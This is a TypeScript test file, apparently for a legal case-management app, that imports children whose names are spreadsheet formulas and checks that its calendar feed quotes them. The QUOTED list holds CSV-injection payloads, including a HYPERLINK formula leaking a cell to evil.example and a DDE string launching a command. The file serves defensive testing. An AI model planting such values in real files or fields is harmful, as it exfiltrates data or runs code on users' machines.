import fc from 'fast-check';
import * as ical from 'node-ical';
import { DataSource } from 'typeorm';
import { isFormulaLike } from '../../../src/common/spreadsheet-safe';
import { Session, startTestApp, TestApp } from '../../support/test-app';
import { childRow, toCsv } from '../imports/fixtures';

type Feed = Record<string, ical.CalendarComponent | ical.VCalendar | undefined>;
const text = (value: ical.ParameterValue | undefined): string =>
  typeof value === 'string' ? value : ((value as { val?: string } | undefined)?.val ?? '');

// Names as a spreadsheet would run them: the OWASP examples plus generated ones behind every trigger.
const QUOTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Ver")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
const generated = fc.sample(
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@'), fc.stringMatching(/^[A-Za-z0-9(),!|' ]{1,30}$/))
    .map(([t, rest]) => `${t}${rest}`.trim()),
  { numRuns: 4, seed: 10 },
);

describe('formula-like names in calendar feeds', () => {
  let t: TestApp;
  let db: DataSource;
  let coordinator: Session;

  beforeAll(async () => {
    t = await startTestApp({ env: { PUBLIC_BASE_URL: 'https://amparo.test' } });
    db = t.app.get(DataSource);
    coordinator = await t.login('coordinator');
  });
  afterAll(() => t.close());

  it('stores imported names as typed and shows them neutralized in the ICS feed', async () => {
    const names = [...QUOTED, ...generated];
    const rows = names.map((name, i) => childRow({ first_name: name, last_name: `Xol${i}` }));
    const report = await t
      .http()
      .post('/imports/children')
      .set(coordinator.auth)
      .attach('file', Buffer.from(toCsv(rows)), { filename: 'children.csv', contentType: 'text/csv' })
      .expect(200);
    expect({ ...report.body, durationMs: 0 }).toMatchObject({ created: names.length, failed: 0, errors: [] });

    const children = (await db.query(`SELECT id, first_name FROM children WHERE organization_id = $1`, [
      coordinator.organizationId,
    ])) as { id: string; first_name: string }[];
    for (const [i, child] of children.entries()) {
      // What was typed is what the API gives back.
      const read = await t.http().get(`/children/${child.id}`).set(coordinator.auth).expect(200);
      expect(names).toContain(read.body.firstName);
      const legalCase = await t
        .http()
        .post('/cases')
        .set(coordinator.auth)
        .send({ childId: child.id, caseType: 'removal_defense', courtCode: 'NYC' })
        .expect(201);
      await t
        .http()
        .post(`/cases/${legalCase.body.id}/hearings`)
        .set(coordinator.auth)
        .send({
          hearingType: 'master',
          localDate: '2027-03-03',
          localTime: `${String(9 + (i % 8)).padStart(2, '0')}:00`,
        })
        .expect(201);
    }

    const feed = await t.http().post('/calendar/feeds').set(coordinator.auth).expect(201);
    const body = (
      await t
        .http()
        .get(new URL(feed.body.url as string).pathname)
        .expect(200)
    ).text;
    const events = Object.values(ical.sync.parseICS(body) as Feed).filter(
      (c): c is ical.VEvent => (c as { type?: string } | undefined)?.type === 'VEVENT',
    );
    const hearings = events.filter((e) => e.uid.startsWith('hearing-'));
    expect(hearings).toHaveLength(names.length);
    for (const name of names) {
      // The child appears as `'<name> X.`: quoted, so no spreadsheet runs it, wherever the text lands.
      const shown = `'${name} X.`;
      const event = hearings.find((e) => text(e.summary).includes(shown));
      expect({ name, found: Boolean(event) }).toEqual({ name, found: true });
      expect(text(event!.description)).toContain(shown);
      expect(text(event!.summary)).not.toContain(`: ${name}`);
    }
    for (const e of events) {
      for (const value of [e.summary, e.description, e.location]) {
        for (const line of text(value).split(/\r\n|\r|\n/)) expect(isFormulaLike(line)).toBe(false);
      }
    }
  });
});
